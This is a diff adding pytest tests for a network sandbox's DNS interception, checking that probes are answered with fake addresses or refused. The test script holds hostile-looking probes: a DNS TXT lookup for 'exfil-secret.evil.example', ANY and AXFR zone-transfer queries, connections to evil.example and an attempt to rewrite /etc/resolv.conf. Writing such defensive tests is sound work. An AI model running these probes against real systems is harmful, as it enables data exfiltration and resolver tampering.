@@ -8,6 +8,7 @@ and mode, each reporting one JSON line, so the module stays lean.
 """
 from __future__ import annotations
 
+import ipaddress
 import json
 import shutil
 
@@ -159,3 +160,124 @@ def test_guard_allows_and_denies_captured_connections(world, clients, user):
     assert request["fields"] == {"door": "capture", "kind": "capture", "host": EVIL, "port": 80}
     # Nothing reached evil.example's server.
     assert not [line for line in world.web_log() if marker in line]
+
+
+# ---------------------------------------------------------------- the DNS door
+
+DNS_CLIENTS = r"""
+import errno, ipaddress, json, socket, subprocess, sys
+world_dns = sys.argv[1]
+
+def say(id, ok, error=None, **more):
+    print(json.dumps({"id": id, "ok": ok, "error": error, **more}), flush=True)
+
+def run(id, argv, **more):
+    out = subprocess.run(argv, capture_output=True, text=True, timeout=60)
+    say(id, out.returncode == 0, out.stderr.strip()[-200:] or None, out=out.stdout.strip(), **more)
+    return out.stdout.strip()
+
+def get(id, host, port=80):
+    try:
+        with socket.create_connection((host, port), timeout=20) as s:
+            s.sendall(b"GET /whoami HTTP/1.0\r\nHost: api.github.com\r\n\r\n")
+            data = b""
+            while chunk := s.recv(65536):
+                data += chunk
+        say(id, True, seen=json.loads(data.split(b"\r\n\r\n", 1)[1]))
+    except (OSError, ValueError, IndexError) as e:
+        say(id, False, errno.errorcode.get(getattr(e, "errno", None) or 0, str(e)))
+
+run("getent", ["getent", "hosts", "api.github.com"])
+made_up = run("dig-a", ["dig", "+short", "@127.0.0.1", "api.github.com", "A"])
+run("dig-tcp", ["dig", "+short", "+tcp", "@127.0.0.1", "api.github.com", "A"])
+run("dig-aaaa", ["dig", "@127.0.0.1", "api.github.com", "AAAA"])
+run("dig-txt", ["dig", "@127.0.0.1", "exfil-secret.evil.example", "TXT"])
+run("dig-any", ["dig", "@127.0.0.1", "evil.example", "ANY"])
+run("dig-axfr", ["dig", "@127.0.0.1", "evil.example", "AXFR"])
+run("dig-world", ["dig", "+short", "+tries=1", "+time=5", f"@{world_dns}", "evil.example", "A"])
+run("dig-world-tcp", ["dig", "+short", "+tcp", "+tries=1", "+time=5", f"@{world_dns}", "evil.example"])
+get("python", "api.github.com")
+run("curl", ["curl", "-sS", "--max-time", "20", "http://api.github.com/whoami"])
+get("evil", "evil.example")
+other_run = str(ipaddress.IPv4Address(int(ipaddress.IPv4Address(made_up)) ^ 0x10000))
+get("other-run", other_run)
+try:
+    with open("/etc/resolv.conf", "w") as f:
+        f.write(f"nameserver {world_dns}\n")
+    say("resolv-write", True)
+except OSError as e:
+    say("resolv-write", False, errno.errorcode.get(e.errno))
+say("resolv", True, out=open("/etc/resolv.conf").read())
+"""
+
+
+@pytest.fixture(scope="module")
+def dns_clients(world):
+    if shutil.which("dig") is None or shutil.which("getent") is None:
+        pytest.skip("the DNS door's tests need dig and getent (scripts/setup installs bind9-dnsutils)")
+    return world.file("capture_dns_clients.py", DNS_CLIENTS)
+
+
+def test_dns_door_control_outside_vpnw(world, dns_clients, user):
+    # In the world itself the names resolve to their real addresses, asked
+    # of the world's DNS server (which logs every query).
+    from world import DNS_ADDR
+    mark = world.dns_mark()
+    r = world.run(["python3", str(dns_clients), DNS_ADDR], user=user)
+    got = results(r.stdout)
+    assert got["getent"]["out"].split()[0] == GITHUB, describe(r)
+    assert got["dig-world"]["out"] == EVIL and got["evil"]["ok"], describe(r)
+    assert got["python"]["ok"] and got["python"]["seen"]["host"] == "api.github.com", describe(r)
+    assert "evil.example" in world.dns_queries(mark)
+
+
+@pytest.mark.parametrize("mode", ["trace", "guard"])
+def test_dns_door_answers_and_never_looks_anything_up(world, dns_clients, user, mode):
+    from world import DNS_ADDR
+    policy = world.file(f"capture-dns-{user}.toml",
+                        'version = 1\n[policy]\ncapture = true\nallow = ["api.github.com:80"]\n')
+    args = ["trace", "--capture"] if mode == "trace" else ["guard", "--policy", str(policy)]
+    mark = world.dns_mark()
+    r = world.vpnw([*args, "--", *NO_PROXY_ENV, "python3", str(dns_clients), DNS_ADDR], user=user)
+    got = results(r.stdout)
+    assert "dig-a" in got, describe(r)
+    made_up = ipaddress.ip_address(got["dig-a"]["out"])
+    assert made_up in ipaddress.ip_network("198.18.0.0/15"), describe(r)
+    assert got["getent"]["out"].split()[0] == str(made_up), describe(r)
+    assert got["dig-tcp"]["out"] == str(made_up), describe(r)
+    assert "status: NOERROR" in got["dig-aaaa"]["out"] and "ANSWER: 0" in got["dig-aaaa"]["out"]
+    assert "status: NOERROR" in got["dig-txt"]["out"] and "ANSWER: 0" in got["dig-txt"]["out"]
+    assert "status: REFUSED" in got["dig-any"]["out"], describe(r)
+    assert "Transfer failed" in got["dig-axfr"]["out"] or "REFUSED" in got["dig-axfr"]["out"], describe(r)
+    # Asking the world's server by address reaches the DNS door all the same.
+    assert ipaddress.ip_address(got["dig-world"]["out"]) in ipaddress.ip_network("198.18.0.0/15")
+    assert ipaddress.ip_address(got["dig-world-tcp"]["out"]) in ipaddress.ip_network("198.18.0.0/15")
+    assert got["python"]["ok"] and got["python"]["seen"]["peer"] == WORLD_V4, describe(r)
+    assert got["curl"]["ok"] and json.loads(got["curl"]["out"])["host"] == "api.github.com"
+    assert not got["other-run"]["ok"], describe(r)
+    assert not got["resolv-write"]["ok"] and got["resolv-write"]["error"] in ("EROFS", "EACCES")
+    assert "nameserver 127.0.0.1" in got["resolv"]["out"]
+    events = run_events(r)
+    by_conn = assert_every_connection_accounted(events)
+    requests = {evs[0]["fields"]["host"]: evs for evs in by_conn.values()}
+    assert requests["api.github.com"][0]["fields"]["fake_address"] == str(made_up)
+    other = next(evs for host, evs in requests.items() if host.startswith("198."))
+    assert other[-1]["type"] == "policy.deny" and other[-1]["fields"]["rule"] == "dns-door"
+    answers = [e["fields"] for e in events if e["type"] == "dns.answer"]
+    assert {(a["type"], a["rcode"]) for a in answers} >= {("A", "NOERROR"), ("AAAA", "NODATA"),
+                                                          ("TXT", "NODATA"), ("ANY", "REFUSED")}
+    assert any(a["transport"] == "tcp" for a in answers)
+    if mode == "trace":
+        # The made-up address of another run is refused: a denial, so 120.
+        assert r.returncode == 120, describe(r)
+        assert got["evil"]["ok"], describe(r)
+        # Names the policy allows are looked up when the program connects, by the broker.
+        assert set(world.dns_queries(mark)) <= {"api.github.com", "evil.example"}
+    else:
+        assert r.returncode == 120, describe(r)
+        assert not got["evil"]["ok"], describe(r)
+        # Nothing was ever looked up for a name the policy does not allow.
+        assert "evil.example" not in world.dns_queries(mark)
+        assert not [q for q in world.dns_queries(mark) if "exfil" in q]
+        denied = [evs[0]["fields"]["host"] for evs in by_conn.values() if evs[-1]["type"] == "policy.deny"]
+        assert "evil.example" in denied
